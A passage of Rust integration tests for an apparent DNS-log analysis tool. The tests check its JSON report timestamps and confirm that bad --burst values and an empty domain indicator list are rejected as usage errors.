    let (code, out, err) = run(&["report", "--format", "json", events.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
    let mut got: Vec<(String, String)> = r["names"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            assert_eq!(n["first_seen"], n["last_seen"]);
            (
                n["qname"].as_str().unwrap().to_string(),
                n["first_seen"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    got.sort();
    let wrong: Vec<_> = got.iter().zip(&want).filter(|(g, w)| g != w).collect();
    assert!(
        wrong.is_empty(),
        "{} wrong, e.g. {:?}",
        wrong.len(),
        wrong.first()
    );
    assert_eq!(r["clients"][0]["first_seen"], "2026-11-29T18:45:25.000Z");
    assert_eq!(r["clients"][0]["last_seen"], "2026-11-29T18:45:25.999Z");
}

/// A `--burst` that is no length of time is a usage error, not a silent 0; an indicator list with no
/// names is a usage error naming the file, not "nothing found" (exit 1), which would read as all clear.
#[test]
fn report_and_hunt_reject_a_bad_burst_and_an_empty_list() {
    let dir = tempdir("usage");
    let events = dir.write("events.log", "");
    let e = events.to_str().unwrap();
    for bad in ["-1", "nan", "inf", "soon"] {
        let (code, _, err) = run(&["report", &format!("--burst={bad}"), e]);
        assert_eq!(code, 2, "--burst {bad}: {err}");
        assert!(err.contains("--burst"), "{err}");
    }
    let (code, _, err) = run(&["report", "--burst", "0.5", e]);
    assert_eq!(code, 0, "{err}");
    let empty = dir.write("empty.txt", "# nothing yet\n\n");
    let (code, _, err) = run(&["hunt", "--list", empty.to_str().unwrap(), e]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains(empty.to_str().unwrap()) && err.contains("no domain indicators"),
        "{err}"
    );
}
